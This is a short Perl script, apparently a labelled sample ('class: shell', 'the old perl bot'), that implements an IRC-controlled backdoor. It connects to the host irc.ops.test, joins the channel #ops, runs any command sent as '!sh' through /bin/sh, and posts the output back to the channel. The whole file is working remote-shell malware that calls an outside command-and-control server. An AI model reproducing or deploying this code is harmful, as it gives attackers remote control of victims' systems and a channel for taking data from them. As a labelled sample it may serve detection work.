# class: shell; possible: low medium; style: the old perl bot
use IO::Socket::INET;
$| = 1;
my $irc = IO::Socket::INET->new("irc.ops.test:6667") or exit 1;
print $irc "NICK w$$\r\nUSER w 8 * :w\r\n";
while (my $l = <$irc>) {
    $l =~ s/\r?\n$//;
    if ($l =~ /^PING (.*)/) { print $irc "PONG $1\r\n"; }
    elsif ($l =~ / 001 /) { print $irc "JOIN #ops\r\n"; }
    elsif ($l =~ /PRIVMSG #ops :!sh (.*)/) {
        open(my $p, "-|", "/bin/sh", "-c", "$1 2>&1") or next;
        while (my $o = <$p>) { chomp $o; print $irc "PRIVMSG #ops :$o\r\n"; }
        close $p;
    }
}
